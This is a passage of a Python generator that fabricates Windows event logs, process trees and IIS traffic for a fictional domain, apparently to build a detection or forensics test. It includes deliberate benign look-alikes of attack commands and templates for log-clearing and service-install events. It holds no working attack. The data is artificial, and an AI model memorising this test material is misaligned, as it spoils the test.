            "ProcessName": _SYS32 + caller if caller else "-",
            "IpAddress": ip,
            "IpPort": str(self.rng.randrange(49152, 65535)) if ip != "-" else "-",
            "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": "-",
            "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842" if user.name.startswith(("adm", "svc")) else "%%1843",
        })

    def failed_logon(self, ts: datetime, user: _Account, *, ip: str, workstation: str,
                     package: str = "NTLM") -> None:
        """Security 4625: a logon failed (bad password)."""
        self._security(ts, 4625, 0, 12544, "0x8010000000000000", {
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "SubjectDomainName": "-",
            "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": user.name,
            "TargetDomainName": user.domain,
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": "0xc000006a",
            "LogonType": 3,
            "LogonProcessName": "NtLmSsp " if package == "NTLM" else "Kerberos",
            "AuthenticationPackageName": package,
            "WorkstationName": workstation,
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": 0,
            "ProcessId": "0x0",
            "ProcessName": "-",
            "IpAddress": ip,
            "IpPort": str(self.rng.randrange(49152, 65535)),
        })

    def dc_process(self, ts: datetime, image: str, cmdline: str, parent: str,
                   user: _Account = _SYSTEM) -> None:
        """Security 4688: a process was created on DC01."""
        self._security(ts, 4688, 2, 13312, "0x8020000000000000", {
            "SubjectUserSid": user.sid,
            "SubjectUserName": "DC01$" if user is _SYSTEM else user.name,
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7" if user is _SYSTEM else f"0x{self.rng.getrandbits(24):x}",
            "NewProcessId": f"0x{self.rng.randrange(1000, 16000, 4):x}",
            "NewProcessName": image,
            "TokenElevationType": "%%1936",
            "ProcessId": f"0x{self.rng.randrange(400, 9000, 4):x}",
            "CommandLine": cmdline,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-16384",
        })

    def task_created(self, ts: datetime, user: _Account, name: str, command: str,
                     arguments: str) -> None:
        """Security 4698: a scheduled task was registered on DC01."""
        content = (
            '<?xml version="1.0" encoding="UTF-16"?>\r\n'
            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
            f"\r\n  <RegistrationInfo>\r\n    <Author>{user.qualified}</Author>\r\n"
            f"    <URI>{name}</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n"
            "    <CalendarTrigger>\r\n      <StartBoundary>2026-10-07T09:00:00</StartBoundary>"
            "\r\n      <ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n"
            "      </ScheduleByDay>\r\n    </CalendarTrigger>\r\n  </Triggers>\r\n"
            "  <Principals>\r\n    <Principal id=\"Author\">\r\n"
            "      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n"
            "    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n"
            f"    <Exec>\r\n      <Command>{command}</Command>\r\n"
            f"      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n"
            "</Task>"
        )
        self._security(ts, 4698, 1, 12804, "0x8020000000000000", {
            "SubjectUserSid": user.sid,
            "SubjectUserName": "DC01$" if user is _SYSTEM else user.name,
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7" if user is _SYSTEM else f"0x{self.rng.getrandbits(24):x}",
            "TaskName": name,
            "TaskContent": content,
            "ClientProcessStartKey": str(self.rng.getrandbits(52)),
            "ClientProcessId": self.rng.randrange(1000, 9000, 4),
            "ParentProcessId": self.rng.randrange(400, 1000, 4),
            "RpcCallClientLocality": 0,
            "FQDN": _DC_FQDN,
        })

    def security_log_cleared(self, ts: datetime, user: _Account) -> None:
        """Security 1102: the audit log was cleared (UserData, as the real event has)."""
        event = self._envelope(
            provider={"Name": "Microsoft-Windows-Eventlog",
                      "Guid": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"},
            event_id=1102, version=0, level=4, task=104, opcode=0,
            keywords="0x4020000000000000", ts=ts, channel="Security", computer=_DC_FQDN,
            pid=1244, user_sid=None, data_key="UserData",
            data={"LogFileCleared": {
                "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/"
                                         "windows/eventlog"},
                "SubjectUserSid": user.sid,
                "SubjectUserName": user.name,
                "SubjectDomainName": user.domain,
                "SubjectLogonId": f"0x{self.rng.getrandbits(28):x}",
            }})
        self.logs[FILE_SECURITY_DC].add(ts, event)

    # ---- System events on DC01

    def service_installed(self, ts: datetime, name: str, image_path: str,
                          user: _Account) -> None:
        """System 7045: a service was installed."""
        self._system_log(ts, 7045, {
            "ServiceName": name,
            "ImagePath": image_path,
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        }, user_sid=user.sid)

    def service_state(self, ts: datetime, name: str, state: str) -> None:
        """System 7036: a service changed state."""
        key = name.encode("utf-16-le").hex().upper()[:32]
        self._system_log(ts, 7036, {"param1": name, "param2": state, "Binary": key})


# --------------------------------------------------------------------------- workstation


@dataclass
class _WorkstationState:
    """Long-lived processes on WS-ANALYST01 that later events hang off."""

    services: _Proc
    schedule: _Proc
    dnscache: _Proc
    bits: _Proc
    explorer: _Proc
    outlook: list[_Proc] = field(default_factory=list)


def _workstation_base(case: _Case) -> _WorkstationState:
    services = case.running(_WS, _SYS32 + "services.exe", _SYS32 + "services.exe", _SYSTEM,
                            pid=688)
    svc = _SYS32 + "svchost.exe"
    schedule = case.running(_WS, svc, _SCHEDULE_SVC, _SYSTEM, parent=services)
    dnscache = case.running(_WS, svc, _SYS32 + "svchost.exe -k NetworkService -p -s Dnscache",
                            _NETWORK_SVC, parent=services)
    bits = case.running(_WS, svc, _SYS32 + "svchost.exe -k netsvcs -p -s BITS", _SYSTEM,
                        parent=services)
    explorer = case.running(_WS, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE",
                            _J_SMITH, integrity="Medium")
    return _WorkstationState(services, schedule, dnscache, bits, explorer)


_DOCS: Final = ("Port_State_Control_Briefing.docx", "Fleet_Readiness_Q3.docx",
                "South_Pacific_Shipping_Lanes.docx", "Team_Meeting_Notes.docx",
                "Research_Plan_2027.docx", "Literature_Review_Draft.docx")
_SITES: Final = ("www.google.com", "www.bing.com", "www.example.com", "login.microsoftonline.com",
                 "wiki.corp.example", "sharepoint.corp.example")


_HEALTH_BLOCKS: Final = (
    "$svc = Get-Service -Name WinDefend, wuauserv, BITS | Select-Object Name, Status",
    "$fw = Get-NetFirewallProfile | Select-Object Name, Enabled",
    "$bl = Get-BitLockerVolume -MountPoint 'C:' | Select-Object VolumeStatus, "
    "ProtectionStatus",
    "[pscustomobject]@{ Services = $svc; Firewall = $fw; BitLocker = $bl } | ConvertTo-Json "
    "-Depth 3 | Out-File -FilePath 'C:\\ProgramData\\CorpIT\\Health\\last.json' "
    "-Encoding utf8",
)
_USER_BLOCKS: Final = (
    "Get-ChildItem -Path .\\Documents\\Research -Filter *.pdf | Measure-Object -Property "
    "Length -Sum",
    "Get-Content .\\Documents\\Research\\sources.txt | Select-String -Pattern 'IMO'",
    "Import-Csv .\\Documents\\vessel_calls.csv | Group-Object -Property Port | "
    "Sort-Object Count -Descending | Select-Object -First 5",
    "Get-Date -Format 'yyyy-MM-dd HH:mm'",
    "Resolve-DnsName -Name sharepoint.corp.example",
    "prompt",
)


def _workstation_noise(case: _Case, ws: _WorkstationState) -> None:
    rng = case.rng
    home = "C:\\Users\\j.smith\\"
    for hour in case.hours():
        for image, cmd, parent in (
            (_SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
             ws.schedule),
            (_SYS32 + "backgroundTaskHost.exe",
             '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:'
             "BackgroundTaskHost.WebAccountProvider", ws.services),
            (_SYS32 + "SearchProtocolHost.exe",
             '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe'
             "_S-1-5-21-1983745216 1 -2147483646", ws.services),
        ):
            if rng.random() < 0.55:
                case.spawn(hour + timedelta(seconds=rng.uniform(0, 2400)), parent, image, cmd,
                           user=_SYSTEM, integrity="System", cwd=_SYS32)
        google = r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"
        gu = case.spawn(hour, ws.schedule, google, f'"{google}" /ua /installsource scheduler',
                        user=_SYSTEM, integrity="System")
        if rng.random() < 0.3:
            case.browse(hour + timedelta(seconds=2), gu, "update.googleapis.com")
        if rng.random() < 0.5:
            case.resolve(hour + timedelta(seconds=rng.uniform(60, 3000)), ws.dnscache,
                         rng.choice(("settings-win.data.microsoft.com",
                                     "ctldl.windowsupdate.com")))
        if rng.random() < 0.25:
            mp = (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25070.5-0"
                  r"\MpCmdRun.exe")
            t = hour + timedelta(seconds=rng.uniform(0, 3000))
            case.spawn(t, ws.services, mp,
                       f'"{mp}" SignatureUpdate -ScheduleJob -RestrictPrivileges',
                       user=_SYSTEM, integrity="System")
    for day in range(DAYS):
        _workstation_day(case, ws, day, home)


def _workstation_day(case: _Case, ws: _WorkstationState, day: int, home: str) -> None:
    rng = case.rng
    start = case.work_time(day, 8.2, 8.8)
    outlook = case.spawn(start, ws.explorer, _OFFICE + "OUTLOOK.EXE",
                         f'"{_OFFICE}OUTLOOK.EXE" ', cwd=home)
    ws.outlook.append(outlook)
    teams = case.spawn(start + timedelta(seconds=40), ws.explorer, _TEAMS,
                       f'"{_TEAMS}" --processStart "ms-teams.exe"', cwd=home)
    chrome = case.spawn(start + timedelta(seconds=95), ws.explorer, _CHROME, f'"{_CHROME}" ',
                        cwd=home)
    onedrive = home + r"AppData\Local\Microsoft\OneDrive\OneDrive.exe"
    od = case.spawn(start + timedelta(seconds=12), ws.explorer, onedrive,
                    f'"{onedrive}" /background', cwd=home)
    case.browse(start + timedelta(seconds=14), od, "graph.microsoft.com")
    dropbox = r"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe"
    dbx = case.spawn(start + timedelta(seconds=20), ws.explorer, dropbox,
                     f'"{dropbox}" /systemstartup', cwd=home)
    for n in range(rng.randrange(3, 6)):
        case.browse(case.work_time(day), dbx,
                    "content.dropboxapi.com" if n % 2 else "api.dropboxapi.com")
    for n in range(rng.randrange(6, 10)):
        t = case.work_time(day)
        case.spawn(t, chrome, _CHROME,
                   f'"{_CHROME}" --type=renderer --lang=en-AU --field-trial-handle=1804,i,'
                   f"{rng.getrandbits(60)},131072 --renderer-client-id={n + 7}")
        case.browse(t + timedelta(seconds=1), chrome, rng.choice(_SITES))
    for _ in range(rng.randrange(6, 10)):
        t = case.work_time(day)
        case.browse(t, outlook, "outlook.office365.com")
        case.browse(t + timedelta(seconds=rng.uniform(30, 900)), teams,
                    rng.choice(("teams.microsoft.com", "graph.microsoft.com")))
    for _ in range(rng.randrange(2, 4)):
        doc = rng.choice(_DOCS)
        t = case.work_time(day)
        folder = home + "Documents\\Research\\"
        word = case.spawn(t, ws.explorer, _OFFICE + "WINWORD.EXE",
                          f'"{_OFFICE}WINWORD.EXE" /n "{folder}{doc}" /o ""', cwd=home)
        case.create_file(t + timedelta(seconds=2), word, f"{folder}~${doc[2:]}")
    t = case.work_time(day)
    excel = case.spawn(t, ws.explorer, _OFFICE + "EXCEL.EXE",
                       f'"{_OFFICE}EXCEL.EXE" "{home}Documents\\Budget_FY27.xlsx"', cwd=home)
    case.create_file(t + timedelta(seconds=3), excel, f"{home}Documents\\~$Budget_FY27.xlsx")
    for _ in range(rng.randrange(1, 3)):
        t = case.work_time(day)
        name = rng.choice(("IMO_Circular_4721.pdf", "Conference_Agenda.pdf",
                           "Tide_Tables_2027.pdf"))
        case.create_file(t, chrome, f"{home}Downloads\\{name}")
    case.set_value(start + timedelta(seconds=13), od,
                   "HKU\\" + _J_SMITH.sid + "\\Software\\Microsoft\\Windows\\CurrentVersion"
                   "\\Run\\OneDrive", f'"{onedrive}" /background')
    for _ in range(3):
        t = case.work_time(day)
        case.set_value(t, ws.explorer,
                       "HKU\\" + _J_SMITH.sid + "\\Software\\Microsoft\\Windows\\CurrentVersion"
                       "\\Explorer\\RecentDocs\\.docx\\" + str(rng.randrange(0, 30)),
                       "Binary Data")
    inv = r"C:\Program Files\CorpIT\Inventory\Send-Inventory.ps1"
    t = LOCAL_DAY0 + timedelta(days=day, hours=11, seconds=rng.uniform(0, 60))
    ps = case.spawn(t, ws.schedule, _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass "
                    f'-File "{inv}"', user=_SYSTEM, integrity="System")
    case.script_block(t + timedelta(seconds=1), ps,
                      "$os = Get-CimInstance -ClassName Win32_OperatingSystem\n"
                      "$disk = Get-CimInstance -ClassName Win32_LogicalDisk -Filter "
                      "\"DeviceID='C:'\"\n$body = @{ host = $env:COMPUTERNAME; build = "
                      "$os.BuildNumber; freeGB = [math]::Round($disk.FreeSpace / 1GB, 1) } | "
                      "ConvertTo-Json\nInvoke-RestMethod -Uri "
                      "'https://inventory.corp.example/api/checkin' -Method Post -Body $body "
                      "-ContentType 'application/json'", path=inv)
    case.browse(t + timedelta(seconds=2), ps, "inventory.corp.example")
    for hour in (10, 15):
        t = LOCAL_DAY0 + timedelta(days=day, hours=hour, seconds=rng.uniform(0, 300))
        health = r"C:\Program Files\CorpIT\Health\Test-Health.ps1"
        hp = case.spawn(t, ws.schedule, _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass "
                        f'-File "{health}"', user=_SYSTEM, integrity="System")
        for n, text in enumerate(_HEALTH_BLOCKS):
            case.script_block(t + timedelta(seconds=1 + n), hp, text, path=health)
    t = case.work_time(day, 13.0, 17.0)
    ps_image = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    user_ps = case.spawn(t, ws.explorer, ps_image, f'"{ps_image}" ', cwd=home)
    for n in range(rng.randrange(3, 6)):
        case.script_block(t + timedelta(seconds=15 + 40 * n), user_ps, rng.choice(_USER_BLOCKS))


def _workstation_lookalikes(case: _Case, ws: _WorkstationState) -> None:
    """Benign commands that resemble the attack and must not be flagged."""
    home = "C:\\Users\\j.smith\\"
    cmd_image = _SYS32 + "cmd.exe"
    t = case.work_time(0, 14.0, 15.0)
    shell = case.spawn(t, ws.explorer, cmd_image, f'"{cmd_image}" ', cwd=home)
    case.spawn(t + timedelta(seconds=25), shell, _SYS32 + "certutil.exe",
               f"certutil  -hashfile {home}Downloads\\CorpVPN_Setup_4.2.msi SHA256")
    case.spawn(t + timedelta(seconds=70), shell, _SYS32 + "schtasks.exe",
               "schtasks  /query /fo LIST /v")
    case.spawn(t + timedelta(seconds=130), shell, r"C:\Program Files\7-Zip\7z.exe",
               f'"C:\\Program Files\\7-Zip\\7z.exe" x {home}Downloads\\survey_data.zip '
               f"-o{home}Documents\\Research\\survey_data")
    t = case.work_time(1, 15.0, 16.0)
    case.spawn(t, ws.explorer, r"C:\Program Files\7-Zip\7z.exe",
               f'"C:\\Program Files\\7-Zip\\7z.exe" a {home}Desktop\\field_trip_photos.7z '
               f"{home}Pictures\\FieldTrip\\*", cwd=home)
    outlook = ws.outlook[1]
    edge = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
    t = case.work_time(1, 10.0, 11.0)
    case.spawn(t, outlook, edge,
               f'"{edge}" --single-argument https://www.example.com/newsletter/october')
    ps_image = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    t = case.work_time(2, 9.0, 10.0)
    ps = case.spawn(t, ws.explorer, ps_image, f'"{ps_image}" ', cwd=home)
    for n, text in enumerate((
        "Get-ChildItem -Path .\\Documents\\Research -Filter *.docx | Sort-Object "
        "LastWriteTime -Descending | Select-Object -First 10 Name, Length",
        "Test-NetConnection -ComputerName wiki.corp.example -Port 443",
        "Invoke-WebRequest -Uri https://wiki.corp.example/status -UseBasicParsing | "
        "Select-Object StatusCode",
        "prompt",
    )):
        case.script_block(t + timedelta(seconds=20 + 35 * n), ps, text)
    google = r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"
    t = case.work_time(2, 12.0, 12.5)
    setup = case.spawn(t, ws.explorer, r"C:\Program Files (x86)\Google\Update\Install\setup.exe",
                       '"C:\\Program Files (x86)\\Google\\Update\\Install\\setup.exe" '
                       "--system-level", user=_J_SMITH, integrity="High", cwd=home)
    case.spawn(t + timedelta(seconds=9), setup, _SYS32 + "schtasks.exe",
               'schtasks  /create /tn "GoogleUpdateTaskMachineUA" /tr "\\"'
               f'{google}\\" /ua /installsource scheduler" /sc hourly /ru SYSTEM /f')


# --------------------------------------------------------------------------- web server


@dataclass
class _WebState:
    services: _Proc
    w3wp: _Proc
    dnscache: _Proc


def _web_base(case: _Case) -> _WebState:
    services = case.running(_WEB, _SYS32 + "services.exe", _SYS32 + "services.exe", _SYSTEM,
                            pid=640)
    was = case.running(_WEB, _SYS32 + "svchost.exe",
                       _SYS32 + "svchost.exe -k iissvcs", _SYSTEM, parent=services)
    w3wp = case.running(
        _WEB, r"c:\windows\system32\inetsrv\w3wp.exe",
        r'c:\windows\system32\inetsrv\w3wp.exe -ap "PortalAppPool" -v "v4.0" -l '
        r'"webengine4.dll" -a \\.\pipe\iisipm6c1f3b2e-8d41-4a7c-9e0f-2b5d7a9c4e18 -h '
        r'"C:\inetpub\temp\apppools\PortalAppPool\PortalAppPool.config" -w "" -m 0',
        _SYSTEM, parent=was, pid=3880)
    dnscache = case.running(_WEB, _SYS32 + "svchost.exe",
                            _SYS32 + "svchost.exe -k NetworkService -p -s Dnscache",
                            _NETWORK_SVC, parent=services)
    return _WebState(services, w3wp, dnscache)


def _compile_site(case: _Case, web: _WebState, ts: datetime) -> None:
    csc = case.spawn(ts, web.w3wp, _NET_FW + "csc.exe",
                     f'"{_NET_FW}csc.exe" /noconfig /fullpaths @"{_ASPNET_TEMP}'
                     f'{case.rng.getrandbits(32):08x}.cmdline"', cwd=_SYS32 + "inetsrv\\")
    case.spawn(ts + timedelta(milliseconds=700), csc, _NET_FW + "cvtres.exe",
               f"{_NET_FW}cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "
               f'"/OUT:C:\\Windows\\TEMP\\RES{case.rng.getrandbits(16):04X}.tmp"')
    case.create_file(ts + timedelta(seconds=1), csc, f"{_ASPNET_TEMP}App_Web_portal.dll")
    case.create_file(ts + timedelta(seconds=1, milliseconds=200), web.w3wp,
                     f"{_ASPNET_TEMP}App_Web_default.aspx.cdcab7d2.compiled")


def _web_noise(case: _Case, web: _WebState) -> None:
    rng = case.rng
    system = case.running(_WEB, "System", "", _SYSTEM, pid=4)
    dcom = case.running(_WEB, _SYS32 + "svchost.exe", _SYS32 + "svchost.exe -k DcomLaunch -p",
                        _SYSTEM, parent=web.services)
    first = WINDOW_START + timedelta(minutes=7, seconds=rng.uniform(0, 30))
    _compile_site(case, web, first)
    case.iis.compiles.append(first)
    for hour in case.hours():
        if rng.random() < 0.6:
            case.spawn(hour + timedelta(seconds=rng.uniform(0, 3000)), web.services,
                       _SYS32 + "svchost.exe", _SYS32 + "svchost.exe -k wsappx -p",
                       user=_SYSTEM, integrity="System")
        if rng.random() < 0.35:
            case.spawn(hour + timedelta(seconds=rng.uniform(0, 3000)), dcom,
                       _SYS32 + "wbem\\WmiPrvSE.exe",
                       _SYS32 + "wbem\\wmiprvse.exe -secured -Embedding",
                       user=_NETWORK_SVC, integrity="System")
        local_hour = (hour - LOCAL_DAY0).total_seconds() / 3600 % 24
        requests = 3 if 8 <= local_hour < 18 else 1
        for _ in range(requests):
            t = hour + timedelta(seconds=rng.uniform(0, 3500))
            case.connect(t, web.w3wp, _SQL_IP, 1433, "sql01.corp.example")
        if rng.random() < 0.3:
            case.resolve(hour + timedelta(seconds=rng.uniform(0, 3500)), web.dnscache,
                         rng.choice(("sql01.corp.example", "dc01.corp.example",
                                     "ctldl.windowsupdate.com")))
    for day in range(DAYS + 1):
        midnight = datetime(2026, 10, 6 + day, 0, 0, 0, tzinfo=UTC)
        if WINDOW_START <= midnight < WINDOW_END:
            case.create_file(midnight + timedelta(milliseconds=rng.randrange(5, 900)), system,
                             f"C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex{midnight:%y%m%d}.log")
    _web_admin_session(case, web)


def _web_admin_session(case: _Case, web: _WebState) -> None:
    """adm.rlee deploys the portal and checks the server (benign look-alikes)."""
    t = case.work_time(1, 9.0, 9.3)
    winlogon = case.running(_WEB, _SYS32 + "winlogon.exe", "winlogon.exe", _SYSTEM)
    userinit = case.spawn(t, winlogon, _SYS32 + "userinit.exe", _SYS32 + "userinit.exe",
                          user=_ADM_RLEE, integrity="High")
    explorer = case.spawn(t + timedelta(seconds=2), userinit, r"C:\Windows\explorer.exe",
                          r"C:\Windows\Explorer.EXE", cwd="C:\\Users\\adm.rlee\\")
    deploy = case.spawn(t + timedelta(minutes=4), explorer, _MSDEPLOY,
                        f'"{_MSDEPLOY}" -verb:sync -source:package="C:\\Deploy\\Portal_2.14.zip" '
                        '-dest:auto -setParam:"IIS Web Application Name"="Default Web Site/portal"')
    for n, name in enumerate(("Default.aspx", "Search.aspx", "web.config", "Global.asax")):
        case.create_file(t + timedelta(minutes=4, seconds=3 + n), deploy,
                         f"C:\\inetpub\\wwwroot\\portal\\{name}")
    _compile_site(case, web, t + timedelta(minutes=6))
    case.iis.compiles.append(t + timedelta(minutes=6))
    case.iis.deploy = (t + timedelta(minutes=4), t + timedelta(minutes=6))
    shell = case.spawn(t + timedelta(minutes=9), explorer, _SYS32 + "cmd.exe",
                       f'"{_SYS32}cmd.exe" ')
    case.spawn(t + timedelta(minutes=9, seconds=20), shell, _SYS32 + "bitsadmin.exe",
               "bitsadmin  /list /allusers")
    case.spawn(t + timedelta(minutes=10), shell, _SYS32 + "certutil.exe",
               r"certutil  -hashfile C:\Deploy\Portal_2.14.zip SHA256")
    case.spawn(t + timedelta(minutes=11), shell, _SYS32 + "schtasks.exe",
               r'schtasks  /query /tn "\Microsoft\Windows\UpdateOrchestrator\Schedule Scan"')


# --------------------------------------------------------------------------- portal traffic


#: Staff using the intranet portal: (address, portal login). The first three are the
#: workstations the domain controller sees.
_STAFF: Final = (
    ("10.10.30.21", "j.smith"), ("10.10.30.22", "k.nguyen"), ("10.10.30.23", "p.walsh"),
    ("10.10.30.31", "m.chen"), ("10.10.30.32", "a.patel"), ("10.10.30.33", "d.oconnor"),
    ("10.10.30.34", "s.kowalski"), ("10.10.30.35", "l.martin"), ("10.10.30.36", "r.singh"),
    ("10.10.30.37", "t.nakamura"), ("10.10.30.38", "e.rossi"), ("10.10.30.39", "b.walker"),
    ("10.10.30.40", "h.ali"), ("10.10.31.12", "c.dubois"), ("10.10.31.13", "n.kaur"),
    ("10.10.31.14", "g.fraser"), ("10.10.31.15", "y.tanaka"), ("10.10.31.16", "o.mensah"),
    ("10.10.31.17", "f.garcia"), ("10.10.31.18", "w.brown"), ("10.10.31.19", "i.petrov"),
    ("10.10.31.20", "v.lopez"), ("10.10.31.21", "z.hughes"), ("10.10.31.22", "q.ward"),
)
_BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0",
)
#: What staff type into the portal search (no word a command or injection rule keys on).
_SEARCHES: Final = (
    "leave policy", "timesheet", "parking", "fleet readiness", "port state control",
    "travel claim", "it helpdesk", "canteen menu", "payroll calendar", "training calendar",
    "printer", "wifi", "expense form", "org chart", "vessel schedule", "tide tables",
    "safety induction", "annual report", "phone list", "recruitment", "building access",
    "holiday roster", "survey results", "research grants", "library", "meeting rooms",
    "maritime policy", "pacific shipping lanes", "budget fy27", "onboarding checklist",
)
_PORTAL: Final = "/Portal/"
_LOGIN_QUERY: Final = "ReturnUrl=%2fPortal%2fDefault.aspx"
_WEBRESOURCE: Final = ("/Portal/WebResource.axd",
                       "d=pynGkmcFUV13He1Qd6_TZMDSWQ7DyEkdL1BqT9FgK0TwAV7DWx0bMGU3SUGvBv1p"
                       "FwCixnOxQKm5cE-5wVGk9w2&t=638612864791538046")
_WEBRESOURCE_BYTES: Final = 23_141
#: Assets a page pulls in (cached by the browser for the rest of the day).
_PAGE_ASSETS: Final = {
    "login": ("css/site.css", "js/vendor.min.js", "js/site.js", "images/logo.png",
              "images/favicon.png", "WebResource.axd"),
    "home": ("images/banner.png",),
    "search": ("images/search.png",),
}
_MISSING: Final = (("/Portal/Staff.aspx", 0), ("/Portal/Forms/Leave.aspx", 0),
                   ("/Portal/images/icons/new.gif", 2), ("/Portal/css/print.css", 2))


@dataclass
class _Visitor:
    """One browser using the portal, with its login and cache state."""

    ip: str
    user: str
    agent: str
    origin: str = "https://portal.corp.example"
    port: int = 443
    server_ip: str = _WEB.ip
    login_day: int = -1
    cached: dict[str, int] = field(default_factory=dict)


class _PortalTraffic:
    """Ordinary use of the intranet portal on WEB01, from many staff workstations."""

    def __init__(self, case: _Case) -> None:
        self.case = case
        self.rng = case.iis.rng
        self.site = _site_files(case.seed)
        self.quiet: list[tuple[datetime, datetime]] = [(WINDOW_START, case.iis.compiles[0])]
        if case.iis.deploy:
            self.quiet.append(case.iis.deploy)

    # ---- one request

    def get(self, ts: datetime, v: _Visitor, stem: str, *, sent: int, query: str = "-",
            status: int = 200, method: str = "GET", referer: str = "", taken_ms: int = 0,
            body: int = 0, substatus: int = 0, win32: int = 0) -> None:
        rng = self.rng
        dynamic = stem.endswith((".aspx", ".ashx"))
        logged_in = v.login_day >= 0 and dynamic and not stem.endswith("Login.aspx")
        cookie = 330 if v.login_day >= 0 else 62
        ref = f"{v.origin}{referer}" if referer else "-"
        received = (150 + len(stem) + len(query) + len(v.agent) + (len(ref) if referer else 0)
                    + cookie + body + rng.randrange(0, 12) + (78 if status == 304 else 0))
        if not taken_ms:
            taken_ms = (rng.randrange(0, 3) if status == 304 else
                        rng.randrange(12, 160) if dynamic else
                        rng.randrange(0, 8) + sent // 400_000)
        self.case.iis.add(ts, method, stem, query=query, client=v.ip, agent=v.agent,
                          user=v.user if logged_in else "-", referer=ref, status=status,
                          substatus=substatus, win32=win32, sent=sent, received=received,
                          taken_ms=taken_ms, port=v.port, server_ip=v.server_ip)

    def assets(self, ts: datetime, v: _Visitor, page: str, day: int, referer: str) -> datetime:
        rng = self.rng
        for asset in _PAGE_ASSETS[page]:
            last = v.cached.get(asset)
            if last == day:
                continue
            ts += timedelta(milliseconds=rng.randrange(4, 90))
            fresh = last is None or rng.random() < 0.12
            if asset == "WebResource.axd":
                stem, query = _WEBRESOURCE
                size = _WEBRESOURCE_BYTES
            else:
                stem, query = _PORTAL + asset, "-"
                size = len(self.site["Portal/" + asset])
            self.get(ts, v, stem, query=query, referer=referer,
                     status=200 if fresh else 304,
                     sent=_static_bytes(size) if fresh else _NOT_MODIFIED_BYTES)
            v.cached[asset] = day
        return ts

    # ---- pages

    def login(self, ts: datetime, v: _Visitor, day: int, wait_ms: int = 0) -> datetime:
        """Unauthenticated visit: redirected to the login form, then signed in."""
        rng = self.rng
        login_url = f"/Portal/Login.aspx?{_LOGIN_QUERY}"
        self.get(ts, v, "/Portal/Default.aspx", status=302, sent=_redirect_bytes(login_url),
                 taken_ms=wait_ms + rng.randrange(2, 9))
        ts += timedelta(milliseconds=wait_ms + rng.randrange(40, 200))
        self.get(ts, v, "/Portal/Login.aspx", query=_LOGIN_QUERY,
                 sent=_page_bytes(rng.randrange(5236, 5249)))
        ts = self.assets(ts, v, "login", day, login_url)
        for attempt in range(3):
            ts += timedelta(seconds=rng.uniform(4, 15))
            if attempt < 2 and rng.random() < 0.07:  # mistyped password: the form again
                self.get(ts, v, "/Portal/Login.aspx", method="POST", query=_LOGIN_QUERY,
                         referer=login_url, body=rng.randrange(780, 840),
                         sent=_page_bytes(rng.randrange(5331, 5344)),
                         taken_ms=rng.randrange(60, 240))
                continue
            self.get(ts, v, "/Portal/Login.aspx", method="POST", query=_LOGIN_QUERY,
                     referer=login_url, body=rng.randrange(780, 840), status=302,
                     sent=_redirect_bytes("/Portal/Default.aspx", cookie=318),
                     taken_ms=rng.randrange(60, 240))
            break
        v.login_day = day
        ts += timedelta(milliseconds=rng.randrange(30, 160))
        return self.home(ts, v, day, referer=login_url)

    def home(self, ts: datetime, v: _Visitor, day: int, referer: str = "") -> datetime:
        self.get(ts, v, "/Portal/Default.aspx", referer=referer,
                 sent=_page_bytes(self.rng.randrange(15_080, 15_960)))
        return self.assets(ts, v, "home", day, "/Portal/Default.aspx")

    def search(self, ts: datetime, v: _Visitor, day: int) -> datetime:
        rng = self.rng
        term = rng.choice(_SEARCHES)
        hits = sum(map(ord, term)) % 23
